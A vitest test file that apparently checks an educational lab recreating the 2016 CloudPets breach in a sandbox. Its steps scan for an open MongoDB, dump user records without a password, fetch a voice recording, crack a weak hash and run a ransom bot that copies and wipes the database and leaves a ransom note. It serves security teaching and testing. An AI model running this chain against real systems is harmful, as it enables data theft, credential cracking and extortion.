/**
 * The "done when", with the tools as a learner types them, against the real world
 * (sandboxes/world in its 2016 state): scan, find the open database, dump the users, follow a
 * recording URL and save the WAV, crack a weak hash, and finally the ransom bot.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { crackMain } from '../../sandboxes/tools/crack/crack.ts';
import { curlMain } from '../../sandboxes/tools/curl/curl.ts';
import { mongoexportMain } from '../../sandboxes/tools/mongoexport/mongoexport.ts';
import { mongoshMain } from '../../sandboxes/tools/mongosh/mongosh.ts';
import { ransomBotMain } from '../../sandboxes/tools/ransom-bot/ransom-bot.ts';
import { scanMain } from '../../sandboxes/tools/scan/scan.ts';
import type { ToolMain } from '../../sandboxes/tools/program/tool-io.ts';
import weakPool from '../../sandboxes/world/dataset/weak-password-hashes.json' with { type: 'json' };
import { initLabFolder, startWorld, type RunningWorld } from '../../sandboxes/world/index.ts';

let labDir: string;
let world: RunningWorld;

/** Runs a tool the way the lab shell does: cwd is the lab folder, the map is found from it. */
async function type(main: ToolMain, argv: string[]) {
  const out: Buffer[] = [];
  const err: Buffer[] = [];
  const code = await main(argv, {
    stdout: { write: (text: string | Uint8Array) => void out.push(Buffer.from(text)) },
    stderr: { write: (text: string | Uint8Array) => void err.push(Buffer.from(text)) },
    stdin: Readable.from([]),
    env: {},
    cwd: labDir,
  });
  return { code, stdout: Buffer.concat(out).toString(), stderr: Buffer.concat(err).toString() };
}

beforeAll(async () => {
  labDir = mkdtempSync(join(tmpdir(), 'cloudpets-walkthrough-'));
  initLabFolder(labDir);
  world = await startWorld({ labDir, seed: 2016, users: 200 });
}, 180_000);
afterAll(async () => {
  await world?.close();
  if (labDir) rmSync(labDir, { recursive: true, force: true });
});

describe('the breach, step by step, with the lab tools', () => {
  it('scan finds the open database', async () => {
    const run = await type(scanMain, ['cloudpets.test']);
    expect(run.code).toBe(0);
    expect(run.stdout).toMatch(/^27017\/tcp open\s+mongodb MongoDB \S+$/m);
    expect(run.stdout).toMatch(/authentication: disabled/);
  });

  it('mongosh lists the databases without a password', async () => {
    const run = await type(mongoshMain, ['--quiet', 'mongodb://db.cloudpets.test:27017', '--eval', 'show dbs']);
    expect(run.code).toBe(0);
    expect(run.stdout).toMatch(/^cloudpets\s+/m);
  });

  let weakUser: { email: string; password: string; plain: string } | undefined;

  it('mongoexport dumps the users', async () => {
    const run = await type(mongoexportMain, ['--uri', 'mongodb://db.cloudpets.test:27017/cloudpets', '-c', 'users', '-o', 'users.jsonl']);
    expect(run.code).toBe(0);
    const users = readFileSync(join(labDir, 'users.jsonl'), 'utf8').trim().split('\n').map((line) => JSON.parse(line) as { email: string; password: string });
    expect(users).toHaveLength(200);
    expect(run.stderr).toMatch(/exported 200 records/);
    // The test knows which hashes come from the weak pool; the cracker below does not.
    const pool = new Map(Object.entries(weakPool as Record<string, string[]>).flatMap(([plain, hashes]) => hashes.map((hash) => [hash, plain] as const)));
    const found = users.find((user) => pool.has(user.password));
    expect(found, 'the dataset gives a few percent of users a weak password').toBeDefined();
    weakUser = { ...found!, plain: pool.get(found!.password)! };
    const strong = users.filter((user) => !pool.has(user.password)).slice(0, 2);
    writeFileSync(join(labDir, 'targets.jsonl'), [...strong, found].map((user) => JSON.stringify(user)).join('\n') + '\n');
  });

  it('curl saves a recording the database points at, as a playable WAV', async () => {
    const shell = await type(mongoshMain, ['--quiet', 'db.cloudpets.test/cloudpets', '--eval', 'db.recordings.findOne().url']);
    const url = shell.stdout.trim();
    expect(url).toMatch(/^http:\/\/bucket\.cloudpets\.test\//);
    const run = await type(curlMain, ['-s', '-f', '-o', 'recording.wav', url]);
    expect(run.code).toBe(0);
    const wav = readFileSync(join(labDir, 'recording.wav'));
    expect(wav.subarray(0, 4).toString('latin1')).toBe('RIFF');
    expect(wav.subarray(8, 12).toString('latin1')).toBe('WAVE');
  });

  it('crack recovers the weak password (cost 10) and names the user', async () => {
    const run = await type(crackMain, ['--hashes', 'targets.jsonl', '--field', 'password', '--quiet']);
    expect(run.stdout).toContain(`${weakUser!.email}:${weakUser!.plain}\n`);
  }, 300_000);

  it('the ransom bot copies, wipes and leaves its note', async () => {
    const run = await type(ransomBotMain, ['db.cloudpets.test']);
    expect(run.code).toBe(0);
    const after = await type(mongoshMain, ['--quiet', 'db.cloudpets.test', '--json=relaxed', '--eval', 'db.adminCommand({listDatabases: 1}).databases.map(d => d.name)']);
    const names = JSON.parse(after.stdout) as string[];
    expect(names).not.toContain('cloudpets');
    expect(names).toContain('README_MISSING_DATABASES');
    expect(readFileSync(join(labDir, 'ransom-copy', 'cloudpets', 'users.json'), 'utf8').trim().split('\n')).toHaveLength(200);
  });
});
